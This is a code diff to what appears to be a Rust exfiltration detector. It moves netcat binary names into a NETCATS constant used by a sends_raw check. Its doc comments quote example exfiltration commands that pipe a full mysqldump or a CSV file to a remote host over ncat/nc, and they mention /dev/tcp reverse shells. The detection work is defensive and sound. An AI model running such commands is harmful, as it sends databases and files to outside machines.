@@ -530,6 +530,9 @@ fn remote_module(v: &str) -> bool {
     })
 }
 
+/// netcat by the names systems install it under.
+pub(super) const NETCATS: &[&str] = &["nc", "ncat", "netcat", "nc.traditional", "nc.openbsd"];
+
 /// Whether a command sends another machine what it reads over a raw
 /// connection: a netcat or telnet given stdin (`mysqldump --all-databases
 /// | ncat 198.51.100.7 9000`, `nc host 9000 < data.csv`), socat joining a
@@ -537,15 +540,7 @@ fn remote_module(v: &str) -> bool {
 /// read (a bash `/dev/tcp/…` redirect is `net.reverse_shell`'s). A port
 /// probe (`nc -z`) sends nothing; loopback is this machine.
 pub(super) fn sends_raw(c: &Cmd<'_>) -> bool {
-    let netcat = c.is(&[
-        "nc",
-        "ncat",
-        "netcat",
-        "nc.traditional",
-        "nc.openbsd",
-        "telnet",
-        "pwncat",
-    ]);
+    let netcat = c.is(NETCATS) || c.is(&["telnet", "pwncat"]);
     if !netcat && !c.is(&["socat"]) {
         return false;
     }
